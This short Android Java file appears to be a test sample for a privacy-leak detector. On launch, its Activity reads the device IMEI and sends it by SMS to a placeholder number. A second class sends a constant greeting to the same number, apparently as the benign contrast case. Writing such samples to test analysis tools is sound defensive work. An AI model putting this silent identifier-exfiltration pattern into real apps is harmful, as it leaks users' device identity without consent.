package org.gdroid.samples.directleak;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String imei = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        String greeting = "hello";
        SmsManager.getDefault().sendTextMessage("+49 1234", null, imei, null, null);
        ConstantOk.run(greeting);
    }
}

class ConstantOk {
    static void run(String greeting) {
        SmsManager.getDefault().sendTextMessage("+49 1234", null, greeting, null, null);
    }
}
